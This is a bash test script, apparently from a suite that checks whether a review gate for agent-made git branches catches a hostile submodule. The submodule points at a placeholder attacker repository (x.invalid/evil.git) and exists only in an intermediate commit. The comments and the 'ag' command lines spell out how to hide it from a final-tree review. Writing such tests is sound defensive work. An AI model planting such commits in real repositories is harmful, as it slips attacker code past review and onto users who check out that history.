#!/bin/bash
# 11 (phase 1): a submodule that exists only in an intermediate commit.
# C1 adds .gitmodules (url = an attacker repo, path vendor/lib) and a
# gitlink 160000 at vendor/lib; C2 removes both. A user who checks out C1
# (bisect) and runs `git submodule update --init` clones the attacker's
# repo (its .gitmodules and what `--recursive` pulls next).
# Got through = a branch whose history holds the gitlink + .gitmodules,
# no --accept, while the same submodule in the final tree is high (the
# control at the end; on this build it is GITMODULES medium there too).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
ag 'printf "[submodule \"vendor/lib\"]\n\tpath = vendor/lib\n\turl = https://x.invalid/evil.git\n" > .gitmodules && git add .gitmodules && git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,vendor/lib && git commit -qm "vendor lib" && git rm -q --cached vendor/lib && git rm -q .gitmodules && git commit -qm "drop vendor"'
sleep 0.5; try sub
H=0; if has_branch && git log --format= --raw "$BR" | grep -q '^:000000 160000'; then echo "  the branch's history holds the submodule, no --accept"; H=1; fi
echo "control: the same submodule left in the final tree (direct mode: over an empty vendor/lib)"
ag 'mkdir -p vendor/lib && printf "[submodule \"vendor/lib\"]\n\tpath = vendor/lib\n\turl = https://x.invalid/evil.git\n" > .gitmodules && git add .gitmodules && git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,vendor/lib && git commit -qm "vendor lib"'
sleep 0.5; try final; echo "  .gitmodules: $(flags_of .gitmodules); vendor/lib: $(flags_of vendor/lib)"
if [ $H = 1 ]; then
	if high_for .gitmodules || high_for vendor/lib; then echo "  high in the final tree, let through in history"; R=1
	else echo "  medium in the final tree too: history treated as the final tree is (no refusal by design)"; fi
fi
finish
